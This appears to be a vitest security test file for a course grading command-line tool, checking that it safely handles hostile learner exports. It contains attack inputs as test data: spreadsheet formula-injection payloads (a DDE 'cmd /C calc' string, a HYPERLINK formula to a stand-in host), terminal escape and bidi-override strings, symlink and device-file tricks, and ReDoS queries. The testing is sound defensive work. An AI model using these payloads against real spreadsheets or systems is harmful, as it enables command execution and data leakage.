import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { runGrade } from '../../../src/cli/grade.ts';
import { exportText, parseExport, stripByteOrderMark } from '../../../src/course/export.ts';
import { collectExportFiles, readExportFile } from '../../../src/node/export-files.ts';
import { csvCell, toCsv, MAX_LEARNER_TEXT } from '../../../src/course/gradebook.ts';
import { loadCourseContentOrThrow } from '../../../src/node/load-content.ts';
import { grade, QuestionSchema, type Question } from '../../../src/course/question-types/index.ts';
import { MAX_POLICY_LENGTH } from '../../../src/course/question-types/sampling-policy.ts';
import { EVALUATION_BUDGET_MS, MAX_QUERY_LENGTH } from '../../../src/course/question-types/traceql.ts';
import { unevaluatedReason } from '../../../src/course/question-types/unevaluated.ts';
import { displayFileName, displayText, escapeControls } from '../../../src/course/untrusted-text.ts';

// The grade command reads files learners hand in, so every file is hostile
// until read: odd entries in the folder, control characters in names, text that
// a spreadsheet would run, answers built to be slow. Each attack here is kept
// as a test. The folders are built in a temporary directory by the test.
// A named pipe is tested where a hang cannot stall the test run: the command started
// as a program, in test/integration/cli/grade-command.test.ts.

const ROOT = join(import.meta.dirname, '../../..');
const CONTENT = join(ROOT, 'test/fixtures/course/content');
const RUNNING_CONTENT = join(ROOT, 'test/fixtures/course/graded-by-running/content');
const isRoot = process.getuid?.() === 0;

/** Anything a terminal acts on, other than the line break we print ourselves. */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

let tmp: string;
beforeAll(() => {
  tmp = mkdtempSync(join(tmpdir(), 'grade-hostile-'));
});
afterAll(() => {
  rmSync(tmp, { recursive: true, force: true });
});

function exportOf(id: string, name: string, answers: unknown[] = []) {
  return {
    format: 'dt-course-export',
    version: 1,
    exportedAt: '2025-04-02T10:00:00.000Z',
    learner: { id, name },
    answers,
    quizzes: [],
    predictions: [],
    visits: [],
    lab: { checked: [] },
  };
}

function run(args: string[]) {
  let out = '';
  let err = '';
  const code = runGrade(args, { stdout: (t) => void (out += t), stderr: (t) => void (err += t), cwd: tmp });
  return { code, out, err, lines: err.split('\n').filter(Boolean) };
}

/** The stderr lines naming `file`. */
const about = (lines: string[], file: string) => lines.filter((l) => l.startsWith(`${file}: `));

describe('walking a hostile exports folder', () => {
  let dir: string;
  beforeAll(() => {
    dir = join(tmp, 'class');
    mkdirSync(dir);
    const put = (name: string | Buffer, data: unknown) =>
      writeFileSync(Buffer.isBuffer(name) ? Buffer.concat([Buffer.from(`${dir}/`), name]) : join(dir, name), JSON.stringify(data));
    put('ada.json', exportOf('id-ada', 'Ada'));
    put('bob.json', exportOf('id-bob', 'Bob'));
    symlinkSync('.', join(dir, 'loop')); // a link to its own folder
    symlinkSync('gone-for-good.json', join(dir, 'gone.json')); // dangling
    symlinkSync('/dev/zero', join(dir, 'zero.json')); // a device that never ends, through a link
    if (isRoot) execFileSync('mknod', [join(dir, 'null.json'), 'c', '1', '3']); // a device file itself
    // Unreadable: as root, permission bits do not stop a read, so a file whose read fails (EIO) stands in.
    if (isRoot) symlinkSync('/proc/self/mem', join(dir, 'locked.json'));
    else {
      put('locked.json', exportOf('id-locked', 'Locked'));
      chmodSync(join(dir, 'locked.json'), 0o000);
    }
    mkdirSync(join(dir, 'folder.json')); // a folder named like an export is a folder: walked
    writeFileSync(join(dir, 'folder.json', 'cy.json'), JSON.stringify(exportOf('id-cy', 'Cy')));
    // "café.json" in Latin-1: not a UTF-8 name.
    put(Buffer.from([0x63, 0x61, 0x66, 0xe9, 0x2e, 0x6a, 0x73, 0x6f, 0x6e]), exportOf('id-cafe', 'Café'));
    writeFileSync(join(dir, 'bom.json'), `\ufeff${JSON.stringify(exportOf('id-bom', 'Bom'))}`);
    // Text saved by another program: a Latin-1 "José" inside an otherwise good export.
    writeFileSync(join(dir, 'latin1.json'), Buffer.from(JSON.stringify(exportOf('id-latin1', 'Jos\u00e9')), 'latin1'));
    writeFileSync(join(dir, 'utf16.json'), Buffer.from(`\ufeff${JSON.stringify(exportOf('id-u16', 'U16'))}`, 'utf16le'));
    writeFileSync(join(dir, 'huge.json'), '');
    truncateSync(join(dir, 'huge.json'), 65 * 1024 * 1024); // sparse: costs no disk
    // An answer nested 100,000 lists deep: JSON.parse reads it, but anything recursive over it would overflow the stack.
    const deep = JSON.stringify(
      exportOf('id-deep', 'Deep', [
        { questionId: 'fx-header', bank: 'module', hash: 'x', response: '@', attempts: 1, answeredAt: '2025-04-02T09:00:00.000Z' },
      ]),
    ).replace('"@"', `${'['.repeat(100_000)}${']'.repeat(100_000)}`);
    writeFileSync(join(dir, 'deep.json'), deep);
    writeFileSync(join(dir, 'notes.txt'), 'not an export, not read');
  });

  it('turns each odd entry into one line and grades every other learner (in-process)', () => {
    const r = run(['class', '--content', CONTENT, '--json']);
    expect(r.code).toBe(1); // files were rejected; the command itself ran
    const graded = JSON.parse(r.out)
      .learners.map((l: { learnerId: string }) => l.learnerId)
      .sort();
    expect(graded).toEqual(['id-ada', 'id-bob', 'id-bom', 'id-cafe', 'id-cy', 'id-deep', 'id-latin1']);

    expect(about(r.lines, 'class/loop')).toEqual([
      'class/loop: rejected: is a symbolic link to a folder already read (a loop, such as a link to its own folder); not read again',
    ]);
    expect(about(r.lines, 'class/gone.json')).toEqual([
      'class/gone.json: rejected: is a symbolic link to gone-for-good.json, which does not exist (a dangling link); skipped: remove the link or put the export there',
    ]);
    expect(about(r.lines, 'class/zero.json')).toEqual([
      'class/zero.json: rejected: is a character device, not a regular file; skipped without opening it (an export is a file downloaded from the progress page)',
    ]);
    if (isRoot) expect(about(r.lines, 'class/null.json')).toHaveLength(1);
    expect(about(r.lines, 'class/locked.json')).toHaveLength(1);
    expect(about(r.lines, 'class/locked.json')[0]).toMatch(
      isRoot ? /rejected: cannot be read: input\/output error \(EIO\)/ : /rejected: cannot be read: permission denied \(EACCES\)/,
    );
    expect(about(r.lines, 'class/caf\\xe9.json')).toEqual([
      'class/caf\\xe9.json: the file name is not valid UTF-8 (its bytes are shown as \\xNN); graded, but rename it to UTF-8 so other tools can open it too',
    ]);
    expect(about(r.lines, 'class/latin1.json')).toEqual([
      'class/latin1.json: the file holds bytes that are not UTF-8 (it was saved by another program); they read as "\ufffd" (U+FFFD), so check the name and answers',
    ]);
    expect(about(r.lines, 'class/utf16.json')).toEqual([
      'class/utf16.json: rejected: the file is saved as UTF-16; an export is UTF-8 text (download it again, or save it as UTF-8)',
    ]);
    expect(about(r.lines, 'class/huge.json')).toEqual([
      'class/huge.json: rejected: is larger than 64 MB; an export from the site is far smaller, so this is not one (or it was padded); skipped',
    ]);
    expect(about(r.lines, 'class/deep.json')).toEqual([
      'class/deep.json: answers[0] (question "fx-header"): nests deeper than 32 levels of lists and objects (an export from the site nests 3 at most); skipped',
    ]);
    // Nothing about the good files, the BOM file, the folder named like a file or the .txt.
    for (const quiet of ['class/ada.json', 'class/bob.json', 'class/bom.json', 'class/folder.json/cy.json', 'class/notes.txt'])
      expect(about(r.lines, quiet)).toEqual([]);
    expect(r.lines.at(-1)).toBe(`grade: 7 graded, ${isRoot ? 7 : 6} rejected, 3 problems`);
  });

  it('reads regular files only, and names the bytes of a name that is not UTF-8', () => {
    const found = collectExportFiles(['class'], tmp);
    expect(found.files.map((f) => f.label)).toContain('class/caf\\xe9.json');
    const cafe = found.files.find((f) => f.label === 'class/caf\\xe9.json')!;
    const read = readExportFile(cafe.path);
    expect(read.ok && JSON.parse(read.bytes.toString('utf8')).learner.id).toBe('id-cafe');
    expect(displayFileName(Buffer.from([0x61, 0x1b, 0x5b, 0x32, 0x4a, 0xff, 0xc3, 0xa9]))).toBe('a\\x1b[2J\\xffé');
  });
});

describe('--out is checked before grading', () => {
  it('fails early, with one line naming the path and the fix, when the folder is missing, a file, or not writable', () => {
    writeFileSync(join(tmp, 'one.json'), JSON.stringify(exportOf('id-one', 'One')));
    writeFileSync(join(tmp, 'plain-file'), '');
    mkdirSync(join(tmp, 'a-folder.csv'), { recursive: true });
    const cases: [string, RegExp][] = [
      [
        'missing/dir/gradebook.csv',
        /^grade: --out missing\/dir\/gradebook\.csv: the folder .*missing\/dir does not exist; create it first \(mkdir -p\) or give a path in an existing folder$/,
      ],
      [
        'plain-file/gradebook.csv',
        /^grade: --out plain-file\/gradebook\.csv: .*plain-file is a file, not a folder; give a path such as grades\/gradebook\.csv$/,
      ],
      ['a-folder.csv', /^grade: --out a-folder\.csv: .*a-folder\.csv is a folder; give a file name such as gradebook\.csv$/],
    ];
    if (isRoot && existsSync('/sys')) {
      // Root ignores permission bits, but not sysfs: nothing can create a file there.
      cases.push([
        '/sys/gradebook.csv',
        /^grade: --out \/sys\/gradebook\.csv: cannot write in the folder \/sys \(E[A-Z]+: .*\); choose a folder you can write to$/,
      ]);
    } else if (!isRoot) {
      mkdirSync(join(tmp, 'read-only'));
      chmodSync(join(tmp, 'read-only'), 0o555);
      cases.push([
        'read-only/gradebook.csv',
        /^grade: --out read-only\/gradebook\.csv: cannot write in the folder .*read-only \(EACCES: .*\); choose a folder you can write to$/,
      ]);
    }
    for (const [out, message] of cases) {
      const r = run(['one.json', '--content', CONTENT, '--out', out]);
      expect(r.code, out).toBe(2);
      expect(r.lines, out).toHaveLength(1);
      expect(r.lines[0], out).toMatch(message);
      expect(r.out, out).toBe(''); // nothing was graded or printed
    }
  });
});

describe('learner text cannot fool the terminal', () => {
  const NASTY = 'Eve\x1b[2J\x1b]0;owned\x07\rMallory \u009b31m red \u202egnp.exe\u0000';

  it('escapes C0 and C1 controls, ESC sequences, CR, BEL and bidi overrides in names, ids and file names', () => {
    const dir = join(tmp, 'terminal');
    mkdirSync(dir);
    writeFileSync(
      join(dir, 'eve\x1b[31m\r.json'),
      JSON.stringify(
        exportOf(`id\x1b[1A\x07`, NASTY, [
          {
            questionId: 'q\x1b[2Jx',
            bank: 'module',
            hash: 'h',
            response: { text: 'x' },
            attempts: 1,
            answeredAt: '2025-04-02T09:00:00.000Z',
          },
        ]),
      ),
    );
    writeFileSync(join(dir, 'fmt.json'), JSON.stringify({ format: 'x\x1b[2J'.repeat(10_000), version: 1 }));
    const tables = run(['terminal', '--content', CONTENT]);
    const json = run(['terminal', '--content', CONTENT, '--json']);
    for (const text of [tables.out, tables.err, json.out, json.err]) expect(text).not.toMatch(RAW_CONTROL);
    expect(tables.out).toContain('Eve\\x1b[2J\\x1b]0;owned\\x07\\rMallory …');
    expect(tables.err).toContain('terminal/eve\\x1b[31m\\r.json: question "q\\x1b[2Jx" is not in the current banks');
    expect(tables.err).toMatch(
      /terminal\/fmt\.json: rejected: not a course export: "format" is "(x\\x1b\[2J)+x?…", expected "dt-course-export"/,
    );
    // The JSON report keeps the value itself, written with escapes a terminal does not act on.
    expect(JSON.parse(json.out).learners[0].learnerName).toBe(NASTY);
    expect(json.out).toContain('\\u001b[2J');
    expect(json.out).toContain('\\u009b31m');
    expect(json.out).toContain('\\u202egnp');
  });

  it('caps table cells at 40 characters', () => {
    expect(displayText('y'.repeat(100), 40)).toBe(`${'y'.repeat(39)}…`);
    expect(escapeControls('a\u0085b\u2028c')).toBe('a\\u0085b\\u2028c');
  });

  it('grades an export whose name is 50,000,000 characters: no crash, no flood, the CSV keeps a cut name', () => {
    const dir = join(tmp, 'long-name');
    mkdirSync(dir);
    // Built as one string and written once: about 100 MB of memory at the peak, for a moment.
    const head = JSON.stringify(exportOf('id-long', '@')).split('"@"');
    writeFileSync(join(dir, 'long.json'), `${head[0]}"${'x'.repeat(50_000_000)}"${head[1]}`);
    writeFileSync(join(dir, 'short.json'), JSON.stringify(exportOf('id-short', 'Short')));
    const r = run(['long-name', '--content', CONTENT, '--out', 'long-name.csv']);
    expect(r.code).toBe(1); // the cut name is a problem line: the file was edited by hand
    expect(about(r.lines, 'long-name/long.json')).toEqual([
      `long-name/long.json: the learner name is 50,000,000 characters long; the site keeps at most ${MAX_LEARNER_TEXT}, so the file was edited by hand; the gradebook keeps its first ${MAX_LEARNER_TEXT}`,
    ]);
    for (const line of `${r.out}${r.err}`.split('\n')) expect(line.length).toBeLessThan(500);
    expect(r.out).toContain(`${'x'.repeat(39)}…`);
    // The CSV holds the name cut to 200 characters (199 and "…"), the most the
    // site itself stores (progress-store.ts): a longer one was padded by hand,
    // and 50 MB in one cell breaks every spreadsheet (Excel stops at 32,767).
    const csv = readFileSync(join(tmp, 'long-name.csv'), 'utf8').split('\n');
    expect(csv.find((l) => l.startsWith('id-long,'))).toBe(`id-long,${'x'.repeat(199)}…,long-name/long.json,0,0,0,0,fail,0,6,0,0,3,0,1,`);
    expect(csv.find((l) => l.startsWith('id-short,'))).toMatch(/^id-short,Short,long-name\/short\.json,/);
  }, 60_000);
});

describe('the CSV is safe to open in a spreadsheet', () => {
  it('neutralises cells a spreadsheet would run and quotes cells holding separators, quotes, ; or line breaks', () => {
    expect(csvCell('=HYPERLINK("http://x.example","click")')).toBe(`"'=HYPERLINK(""http://x.example"",""click"")"`);
    expect(csvCell("+1+cmd|' /C calc'!A0")).toBe(`'+1+cmd|' /C calc'!A0`);
    expect(csvCell('-2+3')).toBe(`'-2+3`);
    expect(csvCell('@SUM(A1:A9)')).toBe(`'@SUM(A1:A9)`);
    expect(csvCell('\t=1+1')).toBe(`'\t=1+1`);
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvCell('Ada; Bob')).toBe('"Ada; Bob"');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('Lovelace, Ada')).toBe('"Lovelace, Ada"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('bell\x07 and \x1b[2J')).toBe('bell\\x07 and \\x1b[2J');
    expect(csvCell('Ada Example')).toBe('Ada Example');
    expect(csvCell(-5)).toBe('-5'); // our own numbers are left alone
    expect(csvCell(null)).toBe('');
    expect(csvCell('z'.repeat(40_000))).toHaveLength(32_767); // Excel's most for one cell
    expect(csvCell(`=${'z'.repeat(40_000)}`)).toHaveLength(32_767); // the added quote included
    expect(
      toCsv([
        ['a', 'b'],
        ['=1', null],
      ]),
    ).toBe("a,b\n'=1,\n");
  });

  it('writes a learner called =HYPERLINK(...) as text in the gradebook', () => {
    const dir = join(tmp, 'formula');
    mkdirSync(dir);
    writeFileSync(join(dir, 'f.json'), JSON.stringify(exportOf('-id', '=HYPERLINK("http://x.example/?"&A1,"Open")')));
    const r = run(['formula', '--content', CONTENT, '--out', 'formula.csv']);
    expect(r.code).toBe(0);
    const row = readFileSync(join(tmp, 'formula.csv'), 'utf8').split('\n')[1]!;
    expect(row.startsWith(`'-id,"'=HYPERLINK(""http://x.example/?""&A1,""Open"")",formula/f.json,`)).toBe(true);
  });
});

describe('a UTF-8 byte-order mark', () => {
  it('is accepted by the one rule both readers use (parseExport, src/course/export.ts)', () => {
    const text = JSON.stringify(exportOf('id-bom', 'Bom'));
    expect(stripByteOrderMark(`\ufeff${text}`)).toBe(text);
    expect(parseExport(`\ufeff${text}`)).toMatchObject({ ok: true, data: { learner: { id: 'id-bom' } } });
    const bytes = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)]);
    const decoded = exportText(bytes);
    expect(decoded.ok && decoded.text.charCodeAt(0)).toBe(0xfeff); // kept for parseExport's rule
    expect(decoded.ok && parseExport(decoded.text).ok).toBe(true);
    expect(exportText(Buffer.from([0xff, 0xfe, 0x7b, 0x00]))).toMatchObject({ ok: false, error: expect.stringMatching(/UTF-16/) });
  });
});

describe('answers that are expensive to evaluate are bounded', () => {
  const base = { outcome: 'backends', prompt: 'P', explanation: 'B.' } as const;
  const DATASET = { requests: 200, seed: 3, errorRate: 0.05, slowRate: 0.1 };
  const traceql = QuestionSchema.parse({
    ...base,
    id: 't',
    type: 'traceql',
    dataset: DATASET,
    reference: '{ resource.service.name = "payment-api" && status = error }',
  }) as Question;
  const policy = QuestionSchema.parse({
    ...base,
    id: 'p',
    type: 'sampling-policy',
    dataset: DATASET,
    requirements: { keepAllErrors: true },
    reference: 'tail_sampling:\n  policies:\n    - { name: errors, type: status_code, status_code: { status_codes: [ERROR] } }\n',
  }) as Question;

  // 150 `by()` stages: under 2,000 characters, and seconds of work over 2,000 traces.
  const SLOW_QUERY = `{ } ${Array(150).fill('| by(name)').join(' ')}`;
  const SLOW_REASON =
    /it needs more evaluation steps over the question's [\d,]+ spans than one query may take|running it over the question's [\d,]+ traces took longer than 5 s/;

  it('scores a TraceQL answer over 2,000 characters 0 as "could not be evaluated", without running it', () => {
    const query = `{ name = "${'a'.repeat(MAX_QUERY_LENGTH)}" }`;
    const r = grade(traceql, { query });
    expect(r).toMatchObject({ score: 0, correct: false });
    const reason = `the query is ${query.length.toLocaleString('en-US')} characters long; the grader runs queries of up to 2,000 characters`;
    expect(unevaluatedReason(r)).toBe(reason);
    expect(r.feedback[0]).toMatchObject({ tone: 'wrong', text: `This answer could not be evaluated: ${reason}.` });
  });

  it('runs a regex such as (.*)*x in linear time (RE2) and grades it as any wrong query', () => {
    const started = performance.now();
    const r = grade(traceql, { query: '{ name =~ "(.*)*x" }' });
    expect(performance.now() - started).toBeLessThan(EVALUATION_BUDGET_MS);
    expect(r).toMatchObject({ score: 0, correct: false });
    expect(unevaluatedReason(r)).toBeUndefined();
  });

  it('stops a query that is short but slow (the engine’s step limit, or the time budget as a backstop)', () => {
    const slow = QuestionSchema.parse({ ...traceql, id: 't2', dataset: { ...DATASET, requests: 2000 } }) as Question;
    grade(slow, { query: '{ }' }); // the dataset is built once per process, outside any budget
    const started = performance.now();
    const r = grade(slow, { query: SLOW_QUERY });
    expect(performance.now() - started).toBeLessThan(EVALUATION_BUDGET_MS + 2000);
    expect(r.score).toBe(0);
    expect(unevaluatedReason(r)).toMatch(SLOW_REASON);
  }, 30_000);

  it('stops an answer whose runs together take longer than the time budget (the clock made to jump)', () => {
    const q = QuestionSchema.parse({
      ...traceql,
      id: 't3',
      wrongAnswers: [{ query: '{ name = "x" }', feedback: 'Not that.' }],
    }) as Question;
    grade(q, { query: '{ }' }); // the dataset is built before the clock jumps
    const real = performance.now.bind(performance);
    let calls = 0;
    const clock = vi.spyOn(performance, 'now').mockImplementation(() => real() + (++calls > 50 ? EVALUATION_BUDGET_MS + 1 : 0));
    try {
      const r = grade(q, { query: '{ duration > 1ms }' });
      expect(r.score).toBe(0);
      expect(unevaluatedReason(r)).toBe(
        "running it over the question's 200 traces took longer than 5 s, the most one answer may take (long chains of `{ }` filters, structural operators or pipeline stages are slow); write a shorter query",
      );
    } finally {
      clock.mockRestore();
    }
  });

  it('scores a policy over the size limit (a 5 MB YAML) 0 as "could not be evaluated"', () => {
    const yaml = `tail_sampling:\n  policies: []\n# ${'y'.repeat(5_000_000)}`;
    const r = grade(policy, { policy: yaml });
    expect(r.score).toBe(0);
    expect(unevaluatedReason(r)).toBe(
      `the configuration is ${yaml.length.toLocaleString('en-US')} characters long; the grader runs configurations of up to ${MAX_POLICY_LENGTH.toLocaleString('en-US')} characters (paste one \`tail_sampling\` block, not a file of generated policies)`,
    );
  });

  it('grades a class of 21 within seconds when one learner hands in pathological answers, and names the culprit', () => {
    // The graded-by-running banks with the TraceQL question on 2,000 requests, the most a
    // question may have, so that a slow query is really slow there.
    const content = join(tmp, 'running-content');
    cpSync(RUNNING_CONTENT, content, { recursive: true });
    const backends = join(content, 'quizzes/backends.yaml');
    writeFileSync(backends, readFileSync(backends, 'utf8').replace('requests: 200', 'requests: 2000'));
    const loaded = loadCourseContentOrThrow(content);
    const hashOf = (id: string) => loaded.questions.get(id)!.hash;
    // Each learner answers on another day, as a class does (same answers at the same second would be flagged as copied).
    const answer = (day: number, questionId: string, bank: string, response: unknown, firstResponse?: unknown) => ({
      questionId,
      bank,
      hash: hashOf(questionId),
      response,
      ...(firstResponse === undefined ? {} : { firstResponse }),
      attempts: 1,
      answeredAt: new Date(Date.UTC(2025, 3, day, 9)).toISOString(),
    });
    const GOOD_QUERY = '{ resource.service.name = "payment-api" && status = error }';
    const GOOD_POLICY =
      'tail_sampling:\n  policies:\n    - { name: errors, type: status_code, status_code: { status_codes: [ERROR] } }\n    - { name: slow, type: latency, latency: { threshold_ms: 500 } }\n    - { name: rest, type: probabilistic, probabilistic: { sampling_percentage: 10 } }\n';
    const dir = join(tmp, 'class-21');
    mkdirSync(dir);
    for (let i = 1; i <= 20; i++) {
      const query = i % 3 === 0 ? '{ status = error }' : GOOD_QUERY;
      writeFileSync(
        join(dir, `learner-${String(i).padStart(2, '0')}.json`),
        JSON.stringify(
          exportOf(`id-${i}`, `Learner ${i}`, [
            answer(i, 'fx-traceql-payment-errors', 'backends', { query }),
            answer(i, 'fx-sampling-policy', 'module', { policy: GOOD_POLICY }),
          ]),
        ),
      );
    }
    writeFileSync(
      join(dir, 'mallory.json'),
      JSON.stringify(
        exportOf('id-mallory', 'Mallory', [
          answer(21, 'fx-traceql-payment-errors', 'backends', { query: SLOW_QUERY }, { query: '{ name =~ "(.*)*x" }' }),
          answer(21, 'fx-sampling-policy', 'module', { policy: `tail_sampling:\n  policies: []\n# ${'y'.repeat(5_000_000)}` }),
        ]),
      ),
    );
    const started = performance.now();
    const r = run(['class-21', '--content', content, '--json']);
    const seconds = (performance.now() - started) / 1000;
    const report = JSON.parse(r.out);
    expect(report.learners).toHaveLength(21);
    expect(r.code).toBe(1);
    expect(about(r.lines, 'class-21/mallory.json')).toEqual([
      expect.stringMatching(
        new RegExp(
          `^class-21/mallory\\.json: question "fx-traceql-payment-errors": could not be evaluated \\((${SLOW_REASON.source}).*\\); scored 0$`,
        ),
      ),
      'class-21/mallory.json: question "fx-sampling-policy": could not be evaluated (the response is over 100,000 characters, more than any question takes); scored 0',
    ]);
    expect(r.lines.filter((l) => !l.startsWith('class-21/mallory.json') && !l.startsWith('grade:'))).toEqual([]);
    const mallory = report.learners.find((l: { learnerId: string }) => l.learnerId === 'id-mallory');
    expect(mallory.moduleScore).toBe(0);
    expect(report.learners.find((l: { learnerId: string }) => l.learnerId === 'id-1').moduleScore).toBe(1);
    // The slow answer costs at most the time budget (5 s; far less where the engine's step limit
    // stops it first); the rest is the class itself. The bound is generous for a shared CI machine.
    expect(seconds).toBeLessThan(20);
  }, 60_000);
});
